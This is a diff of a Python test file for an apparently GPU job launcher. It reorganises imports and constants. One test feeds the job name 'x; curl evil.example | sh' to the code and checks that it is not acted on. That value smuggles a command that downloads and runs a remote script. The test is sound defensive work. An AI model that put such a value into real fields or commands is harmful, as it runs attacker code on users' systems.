@@ -12,6 +12,7 @@ import pytest
 from launcher.batch import job_store
 from launcher.core.domain import Answer
 from launcher.core.errors import UnreadableAnswer
+from launcher.hosts import pairs
 from launcher.hosts.discovery import local_assets
 from launcher.network import network_plan
 from launcher.tools import (
@@ -19,7 +20,6 @@ from launcher.tools import (
     gpu_survey,
     head_answer,
     host_read,
-    pairs,
     ray,
     running,
     serving_judges,
@@ -101,12 +101,14 @@ def test_figures_that_are_none() -> None:
         )
         == 0
     )
-    assert serving_judges.claimed({"metadata": {job_store.GPUS: "inf"}}) == 0
+    assert serving_judges.claimed({"metadata": {serving_judges.GPUS: "inf"}}) == 0
 
 
 def test_a_name_that_is_a_command() -> None:
     """Hints name jobs, and people run hints."""
-    job = seeds.job("batch-1", {job_store.NAME: "x; curl evil.example | sh", job_store.GPUS: "1"})
+    job = seeds.job(
+        "batch-1", {serving_judges.NAME: "x; curl evil.example | sh", serving_judges.GPUS: "1"}
+    )
     row = {**kept.one(kept.wanted()), "name": "x; curl evil.example | sh"}
     assert running.holders(kept.said(row)) == []
     assert serving_judges.job_holders({"jobs": [job]}) == []
